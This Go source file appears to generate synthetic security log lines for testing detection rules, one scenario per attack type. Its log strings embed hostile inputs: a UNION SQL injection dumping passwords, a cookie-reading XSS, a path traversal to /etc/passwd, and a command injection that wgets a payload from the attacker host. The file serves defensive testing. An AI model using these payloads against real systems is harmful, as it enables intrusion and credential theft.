package logsim

import "fmt"

// Scenario produces lines for one kind of attack. RuleID names the builtin
// detection rule its lines are written to trigger.
type Scenario struct {
	Name        string
	RuleID      string
	Description string
	line        func(g *generator, attacker string) string
}

var scenarios = []Scenario{
	{
		Name:        "brute-force",
		RuleID:      "brute-force-ssh",
		Description: "Repeated SSH password failures from one source",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf("sshd[%d]: Failed password for %s from %s port %d ssh2",
				g.pid(), g.faker.RandomString(targetUsers), attacker, g.port())
		},
	},
	{
		Name:        "sql-injection",
		RuleID:      "sql-injection",
		Description: "UNION based SQL injection against a product page",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf(`nginx: %s - - "GET /products.php?id=%d' UNION SELECT username,password FROM users-- HTTP/1.1" 500 %d`,
				attacker, g.faker.Number(1, 500), g.faker.Number(100, 900))
		},
	},
	{
		Name:        "xss",
		RuleID:      "xss-attempt",
		Description: "Reflected script injection in a search parameter",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf(`nginx: %s - - "GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1" 400 %d`,
				attacker, g.faker.Number(100, 900))
		},
	},
	{
		Name:        "path-traversal",
		RuleID:      "path-traversal",
		Description: "Directory traversal toward system files",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf(`nginx: %s - - "GET /download?file=../../../../etc/passwd HTTP/1.1" 404 %d`,
				attacker, g.faker.Number(100, 900))
		},
	},
	{
		Name:        "command-injection",
		RuleID:      "command-injection",
		Description: "Shell command chained onto a CGI parameter",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf(`nginx: %s - - "GET /cgi-bin/status?host=10.0.0.1;wget http://%s/payload.bin HTTP/1.1" 200 %d`,
				attacker, attacker, g.faker.Number(100, 900))
		},
	},
	{
		Name:        "port-scan",
		RuleID:      "port-scan",
		Description: "Kernel report of a port scan",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf("kernel: Possible port scan detected from %s against %d ports",
				attacker, g.faker.Number(100, 1000))
		},
	},
	{
		Name:        "privilege-escalation",
		RuleID:      "privilege-escalation",
		Description: "sudo use by an account outside sudoers",
		line: func(g *generator, _ string) string {
			user := g.faker.RandomString(benignUsers)
			return fmt.Sprintf("sudo: %s : user NOT in sudoers ; TTY=pts/%d ; PWD=/home/%s ; USER=root",
				user, g.faker.Number(0, 9), user)
		},
	},
	{
		Name:        "malware",
		RuleID:      "malware-detected",
		Description: "Antivirus signature hit on a downloaded file",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf("clamd[%d]: /tmp/invoice-%d.exe: Win.Trojan.Agent FOUND (downloaded from %s)",
				g.pid(), g.faker.Number(100, 999), attacker)
		},
	},
	{
		Name:        "exfiltration",
		RuleID:      "data-exfiltration",
		Description: "Large outbound transfer to an external host",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf("dlp: Large outbound transfer to %s, %d MB sent from 10.0.4.17",
				attacker, g.faker.Number(150, 900))
		},
	},
	{
		Name:        "ddos",
		RuleID:      "ddos-attack",
		Description: "Request flood hitting the rate limiter",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf("nginx: rate limit exceeded for %s, %d requests in 10s",
				attacker, g.faker.Number(500, 5000))
		},
	},
	{
		Name:        "scanner",
		RuleID:      "scanner-user-agent",
		Description: "Known vulnerability scanner user agent",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf(`nginx: %s - - "GET /wp-login.php HTTP/1.1" 404 %d "-" "Mozilla/5.00 (Nikto/2.1.6)"`,
				attacker, g.faker.Number(100, 900))
		},
	},
	{
		Name:        "account-lockout",
		RuleID:      "account-lockout",
		Description: "Directory account locked after failed logins",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf("winlogon: Account locked for user %s, last attempt from %s",
				g.faker.RandomString(targetUsers), attacker)
		},
	},
	{
		Name:        "unauthorized-access",
		RuleID:      "unauthorized-access",
		Description: "Denied request to an administrative endpoint",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf("api: Access denied for token from %s to /admin/users", attacker)
		},
	},
	{
		Name:        "firewall-block",
		RuleID:      "firewall-block",
		Description: "Host firewall dropping inbound packets",
		line: func(g *generator, attacker string) string {
			return fmt.Sprintf("kernel: [UFW BLOCK] IN=eth0 OUT= SRC=%s DST=10.0.0.5 PROTO=TCP DPT=%d",
				attacker, g.faker.Number(1, 1024))
		},
	},
}
